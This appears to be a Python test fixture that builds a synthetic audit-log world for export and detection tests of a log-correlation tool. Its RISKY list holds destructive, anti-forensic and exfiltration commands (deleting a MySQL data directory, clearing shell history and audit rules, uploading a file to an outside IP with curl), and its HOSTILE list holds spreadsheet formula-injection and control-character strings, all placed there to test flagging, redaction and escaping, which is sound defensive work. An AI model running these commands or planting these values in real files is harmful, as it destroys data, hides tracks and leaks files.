"""A small world with hostile text in every log-derived field, findings of several verdicts,
event detections, a muted-free sequence and redacted secrets: the export tests' shared input."""

from __future__ import annotations

HOSTILE = ["=1+2", "  +cmd", "\u3000-x", "@SUM(A1)", "\tTAB", "\rCR", "a,b", 'say "hi"',
           "line\nbreak", "cr\rinside", "\u202eevil\u202c", "zero\u200bwidth", "a\u200db",
           "\x07bell\x1b[0m", "\x0bvt\x0cff", "back\\slash", "caf\u00e9 \u65e5\u672c",
           "\U0001f600 emoji", "\uff1dfull", "\u00a0=nbsp", "\u2007@", "\u0085-nel",
           "soft\u00adhyphen", "tag\U000e0041", "del\x7f", "\u2028sep", "plain"]

# Commands the shipped rules flag (event rules and, root shell then history cleared on one host,
# a sequence), each with hostile text appended; one carries a secret that ingest redacts.
RISKY = ["rm -rf /var/lib/mysql", "sudo su", "history -c", "auditctl -D",
         "curl -T /tmp/x https://203.0.113.7/u --password=hunter2", "mysql -u root --password=hunter2 -e 'drop'"]


def build(world) -> None:
    """Approval A covers alice on web-01 10:00-12:00 on 2026-11-16; everything else is FAIL."""
    world.approval("A", "2026-11-16T10:00:00Z", "2026-11-16T12:00:00Z")
    for i, text in enumerate(HOSTILE):
        world.action(f"h{i:02}", f"2026-11-16T11:{i:02}:00.{i:06}Z", detail=text,
                     account="alice" if i % 2 else text, target=text,
                     session_id="" if i % 3 else text, actor=text,
                     outcome=("success", "failure", "unknown", "")[i % 4])
    for i, cmd in enumerate(RISKY):
        for j, text in enumerate(HOSTILE[::4]):
            account = ("alice", "mallory", text)[j % 3]
            world.action(f"r{i}{j}", f"2026-11-16T{11 + j % 5:02}:{10 + i:02}:{j:02}Z",
                         account=account, target=("web-01", "db-01", text)[j % 3],
                         action="exec",
                         detail=f"{cmd} {text}", actor=account)


def correlate_world(store) -> int:
    """correlate() with one allow entry (hostile reason) so some detections are MUTED."""
    from correlate.detect.run import DetectionSettings, Mute
    from correlate.engine import correlate
    return correlate(store, detections=DetectionSettings(mutes=(
        Mute(rule="network_egress_tool", account="mallory", reason='=backup, "nightly"\r\n'),)))
